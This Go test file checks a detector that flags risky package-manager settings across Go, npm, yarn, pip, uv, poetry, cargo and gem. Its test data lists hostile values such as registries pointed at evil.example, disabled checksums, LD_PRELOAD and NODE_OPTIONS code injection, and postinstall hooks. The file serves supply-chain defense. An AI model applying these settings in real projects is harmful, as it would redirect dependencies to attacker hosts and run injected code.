package manifest

import (
	"strings"
	"testing"
)

func TestEnv(t *testing.T) {
	for _, c := range []struct {
		name, value, want string // want: "" or a kind
	}{
		{"GOPROXY", "https://proxy.golang.org,direct", ""},
		{"GOPROXY", "direct", ""},
		{"GOPROXY", "off", ""},
		{"GOPROXY", "https://goproxy.evil.example,direct", KindSource},
		{"GOSUMDB", "sum.golang.org", ""},
		{"GOSUMDB", "off", KindChecksum},
		{"GONOSUMDB", "*", KindChecksum},
		{"GONOSUMDB", "github.com", KindChecksum},
		{"GOPRIVATE", "github.com/mycorp", ""},
		{"GOPRIVATE", "*.corp.example", ""},
		{"GONOSUMCHECK", "1", KindChecksum},
		{"GOINSECURE", "example.com", KindChecksum},
		{"GOFLAGS", "-mod=mod", ""},
		{"GOFLAGS", "-insecure", KindChecksum},
		{"GOFLAGS", "-toolexec=/tmp/x", KindRuns},
		{"GOTOOLCHAIN", "go1.22.3+auto", ""},
		{"GOTOOLCHAIN", "local", ""},
		{"GOTOOLCHAIN", "https://evil.example/go", KindSource},
		{"npm_config_registry", "https://registry.npmjs.org/", ""},
		{"NPM_CONFIG_REGISTRY", "https://npm.evil.example/", KindSource},
		{"npm_config_strict_ssl", "false", KindChecksum},
		{"YARN_NPM_REGISTRY_SERVER", "https://evil.example", KindSource},
		{"PIP_INDEX_URL", "https://pypi.org/simple", ""},
		{"PIP_INDEX_URL", "https://evil.example/simple", KindSource},
		{"PIP_EXTRA_INDEX_URL", "https://evil.example/simple", KindSource},
		{"PIP_TRUSTED_HOST", "evil.example", KindSource},
		{"UV_INDEX_URL", "https://evil.example/simple", KindSource},
		{"UV_EXTRA_INDEX_URL", "https://evil.example/simple", KindSource},
		{"UV_INDEX", "corp=https://evil.example/simple", KindSource},
		{"POETRY_REPOSITORIES_CORP_URL", "https://evil.example", KindSource},
		{"CARGO_REGISTRIES_CORP_INDEX", "sparse+https://evil.example/", KindSource},
		{"CARGO_REGISTRY_DEFAULT", "corp", KindSource},
		{"CARGO_REGISTRY_TOKEN", "x", ""},
		{"BUNDLE_MIRROR__HTTPS://RUBYGEMS__ORG/", "https://evil.example", KindSource},
		{"GEM_SOURCE", "https://rubygems.org/", ""},
		{"GEM_SOURCE", "https://evil.example", KindSource},
		{"NODE_OPTIONS", "--max-old-space-size=4096", ""},
		{"NODE_OPTIONS", "--require /tmp/x.js", KindRuns},
		{"NODE_OPTIONS", "--import=./x.mjs", KindRuns},
		{"LD_PRELOAD", "/tmp/x.so", KindRuns},
		{"BUNDLE_SSL_VERIFY_MODE", "0", KindChecksum},
		{"BUNDLE_SSL_VERIFY_MODE", "1", ""},
		{"GONOSUMDB", "*.com", KindChecksum},
		{"CARGO_TARGET_X86_64_UNKNOWN_LINUX_GNU_RUNNER", "/tmp/r", KindRuns},
		{"PATH", "/usr/bin", ""},
		{"HOME", "/tmp", ""},
	} {
		cs := Env(c.name, c.value)
		g := ""
		if len(cs) > 0 {
			g = cs[0].Kind
		}
		if g != c.want || len(cs) > 1 && c.name != "GOFLAGS" {
			t.Errorf("Env(%s=%s) = %v, want %q", c.name, c.value, cs, c.want)
		}
	}
}

func TestCommand(t *testing.T) {
	for _, c := range []struct {
		argv  string
		want  string // "kind key;…"
		files string
		ok    bool
	}{
		{"go mod edit -replace=golang.org/x/net=github.com/evil/net@v1.0.0", "source replace golang.org/x/net", "go.mod", true},
		{"go mod edit -replace golang.org/x/net@v0.1.0=../net", "source replace golang.org/x/net", "go.mod", true},
		{"go mod edit -dropreplace=golang.org/x/net", "", "go.mod", true},
		{"go mod edit -replace=golang.org/x/net=golang.org/x/net@v0.1.0", "", "go.mod", true},
		{"go mod edit -require=golang.org/x/net@v0.2.0 -go=1.22", "", "go.mod", true},
		{"go mod edit -exclude=a.com/b@v1.0.0 -retract=v1.0.0 -module=x.com/y", "", "go.mod", true},
		{"go env -w GOPROXY=https://evil.example GOFLAGS=-mod=mod", "source GOPROXY", "", true},
		{"go env -w GOSUMDB=off", "checksum GOSUMDB", "", true},
		{"go env -u GOPROXY", "", "", true},
		{"go env GOPATH", "", "", false},
		{"go get golang.org/x/net@v0.20.0", "", "go.mod go.sum", true},
		{"go work use ../outside", "source use ../outside", "go.work", true},
		{"go work use ./inside", "", "go.work", true},
		{"go work edit -replace=a.com/b=../b", "source replace a.com/b", "go.work", true},
		{"go build ./...", "", "", false},
		{"npm pkg set scripts.postinstall=node_x.js", "runs scripts.postinstall", "package.json", true},
		{"npm pkg set scripts.test=jest", "", "package.json", true},
		{"npm pkg set dependencies.x=git+https://e.example/x.git", "source dependencies.x", "package.json", true},
		{"npm pkg set dependencies.x=^1.2.0", "", "package.json", true},
		{"npm pkg set overrides.x=file:../x", "source overrides.x", "package.json", true},
		{"npm pkg set overrides.x=1.0.0", "", "package.json", true},
		{"npm pkg set publishConfig.registry=https://evil.example/", "source publishConfig.registry", "package.json", true},
		{"npm install left-pad@^1.3.0 @scope/x", "", "package.json package-lock.json", true},
		{"npm i github:evil/x", "source dependencies.github:evil/x", "package.json package-lock.json", true},
		{"npm install evil/x", "source dependencies.evil/x", "package.json package-lock.json", true},
		{"npm install x@npm:y@1.0.0", "source dependencies.x", "package.json package-lock.json", true},
		{"npm install ./x.tgz", "source dependencies../x.tgz", "package.json package-lock.json", true},
		{"npm install lodash --registry https://evil.example", "source registry", "package.json package-lock.json", true},
		{"npm install -g typescript", "", "", false},
		{"npm install -w packages/a lodash", "", "package.json package-lock.json", true},
		{"yarn add https://e.example/x.tgz", "source dependencies.https://e.example/x.tgz", "package.json yarn.lock", true},
		{"pnpm add left-pad", "", "package.json pnpm-lock.yaml", true},
		{"bun add git+ssh://git@github.com/e/x.git", "source dependencies.git+ssh://git@github.com/e/x.git", "package.json bun.lockb", true},
		{"npm config set registry https://evil.example/", "source registry", "", true},
		{"npm config set @corp:registry=https://evil.example/ --location=project", "source @corp:registry", ".npmrc", true},
		{"npm config set save-exact true", "", "", true},
		{"yarn config set npmRegistryServer https://evil.example", "source npmRegistryServer", ".yarnrc.yml", true},
		{"pnpm config set registry https://registry.npmjs.org/", "", "", true},
		{"npm run build", "", "", false},
		{"cargo add serde", "", "Cargo.toml Cargo.lock", true},
		{"cargo add mine --git https://e.example/mine", "source dependencies.mine", "Cargo.toml Cargo.lock", true},
		{"cargo add --path ../x x", "source dependencies.x", "Cargo.toml Cargo.lock", true},
		{"cargo install ripgrep", "", "", false},
		{"poetry add requests@^2.31", "", "pyproject.toml poetry.lock", true},
		{"poetry add git+https://e.example/x.git", "source dependency git+https://e.example/x.git", "pyproject.toml poetry.lock", true},
		{"poetry add requests --source corp", "source --source", "pyproject.toml poetry.lock", true},
		{"poetry source add corp https://e.example/simple", "source [[tool.poetry.source]] corp", "pyproject.toml", true},
		{"pdm add ./local", "source dependency ./local", "pyproject.toml pdm.lock", true},
		{"uv add requests", "", "pyproject.toml uv.lock", true},
		{"uv add requests --index-url https://e.example/simple", "source --index-url", "pyproject.toml uv.lock", true},
		{"uv add git+https://e.example/x.git", "source dependency git+https://e.example/x.git", "pyproject.toml uv.lock", true},
		{"pip install requests==2.31.0", "", "", true},
		{"pip install -e .", "", "", true},
		{"pip install -r requirements.txt", "", "", true},
		{"pip3 install -i https://e.example/simple requests", "source -i", "", true},
		{"pip install --extra-index-url=https://e.example/simple requests", "source --extra-index-url", "", true},
		{"pip install git+https://e.example/x.git", "source requirement git+https://e.example/x.git", "", true},
		{"python3 -m pip install x @ https://e.example/x.whl", "source requirement https://e.example/x.whl", "", true},
		{"pip config set global.index-url https://e.example/simple", "source global.index-url", "", true},
		{"pip download x", "", "", false},
		{"bundle add rails", "", "Gemfile Gemfile.lock", true},
		{"bundle add rails --git https://e.example/rails", "source gem rails", "Gemfile Gemfile.lock", true},
		{"bundle config set mirror.https://rubygems.org https://e.example", "source mirror.https://rubygems.org", "", true},
		{"gem sources -a https://e.example/", "source gem sources", "", true},
		{"gem install rails --source https://e.example/", "source gem --source", "", true},
		{"gem install rails", "", "", true},
		{"ls -la", "", "", false},
	} {
		argv := strings.Fields(c.argv)
		cs, files, ok := Command(argv)
		var g []string
		for _, ch := range cs {
			g = append(g, ch.Kind+" "+ch.Key)
		}
		if strings.Join(g, ";") != c.want || strings.Join(files, " ") != c.files || ok != c.ok {
			t.Errorf("Command(%s) = %q %q %v, want %q %q %v", c.argv, g, files, ok, c.want, c.files, c.ok)
		}
	}
}
